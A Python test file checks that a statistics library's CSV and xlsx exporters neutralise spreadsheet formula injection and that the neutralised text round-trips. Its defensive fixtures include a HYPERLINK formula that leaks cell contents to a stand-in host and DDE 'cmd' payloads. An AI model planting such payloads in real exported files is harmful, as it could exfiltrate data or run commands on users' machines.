"""Nothing injected: text a spreadsheet would run is written as text by the CSV and xlsx exporters."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest

import samhandling as sh
from samhandling import StatTable, Variable
from samhandling.exporters import export
from samhandling.exporters.formulas import (
    is_formula_like,
    neutralise_column,
    neutralise_text,
    restore_column,
    restore_text,
)

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Klikk her")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
QUOTED = "'=already quoted"  # not a formula, but it gets one more apostrophe so that reading gives it back
HARMLESS = ["-5", "+47", "-1.5", "-", "Hamar", "- ", ""]


def _table() -> StatTable:
    labels = [*HOSTILE, QUOTED, "-5", "Hamar"]
    n = len(labels)
    return StatTable.from_pydict(
        {
            "region": ["3403"] * n,
            "level": ["municipality"] * n,
            "year": [2024] * n,
            "service": labels,
            "variable": ["users"] * n,
            "value": [-3.5, *[float(i) for i in range(1, n)]],
        },
        variables=[Variable(id="users", unit="bruker", label="=cmd|' /C calc'!A0")],
        geography_year=2024,
        title="@title",
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_recognised(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise_text(text).startswith("'")
    assert restore_text(neutralise_text(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_the_dash_and_plain_text_are_left_alone(text: str) -> None:
    if text != "- ":
        assert not is_formula_like(text)
        assert neutralise_text(text) == text


def test_columns_round_trip_plain_and_dictionary() -> None:
    column = pa.chunked_array([[*HOSTILE, QUOTED, "''=x", *HARMLESS, None]])
    for given in (column, column.dictionary_encode()):
        neutralised = neutralise_column(given)
        assert neutralised.type == given.type
        assert restore_column(neutralised).to_pylist() == column.to_pylist()
        for text in neutralised.to_pylist():
            assert text is None or not is_formula_like(text) or text.startswith("'")


@pytest.mark.parametrize("norwegian", [False, True])
def test_csv_cells_start_with_an_apostrophe_and_read_back_as_written(tmp_path: Path, norwegian: bool) -> None:
    table = _table()
    path = export(table, tmp_path / "users.csv", norwegian=norwegian)
    delimiter = ";" if norwegian else ","
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=delimiter))
    services = [row[rows[0].index("service")] for row in rows[1:]]
    assert services[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert services[-3:] == ["''=already quoted", "-5", "Hamar"]
    values = [row[rows[0].index("value")] for row in rows[1:]]
    assert values[0] == ("-3,5" if norwegian else "-3.5")  # a negative number stays a number
    for row in rows:
        for cell in row:
            assert not is_formula_like(cell), cell
    assert sh.read(path).equals(table)


def test_csv_keeps_formulas_when_asked(tmp_path: Path) -> None:
    path = export(_table(), tmp_path / "trusted.csv", neutralise_formulas=False)
    assert HYPERLINK.replace('"', '""') in path.read_text(encoding="utf-8")
    assert sh.read(path).equals(_table())


def test_a_column_name_that_looks_like_a_formula(tmp_path: Path) -> None:
    table = StatTable.from_pydict(
        {
            "region": ["3403"],
            "level": ["municipality"],
            "year": [2024],
            "=evil": ["x"],
            "variable": ["users"],
            "value": [1.0],
        },
        variables=[Variable(id="users", unit="bruker")],
    )
    path = export(table, tmp_path / "odd.csv")
    assert (
        path.read_text(encoding="utf-8").splitlines()[0] == "region,level,year,'=evil,variable,value,status"
    )
    assert sh.read(path).equals(table)


@pytest.mark.parametrize("layout", ["wide", "long"])
def test_xlsx_writes_text_cells_with_a_quote_prefix(tmp_path: Path, layout: str) -> None:
    path = export(_table(), tmp_path / "users.xlsx", layout=layout)
    workbook = openpyxl.load_workbook(path)
    seen = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
                    seen.add(cell.value)
                if cell.value == -3.5:
                    assert cell.data_type == "n"
    assert set(HOSTILE) <= seen  # written as they are, as text
    assert "=cmd|' /C calc'!A0" in seen  # the variable's label in the sources sheet


def test_xlsx_keeps_formulas_when_asked(tmp_path: Path) -> None:
    path = export(_table(), tmp_path / "trusted.xlsx", layout="long", neutralise_formulas=False)
    sheet = openpyxl.load_workbook(path)["data"]
    assert any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
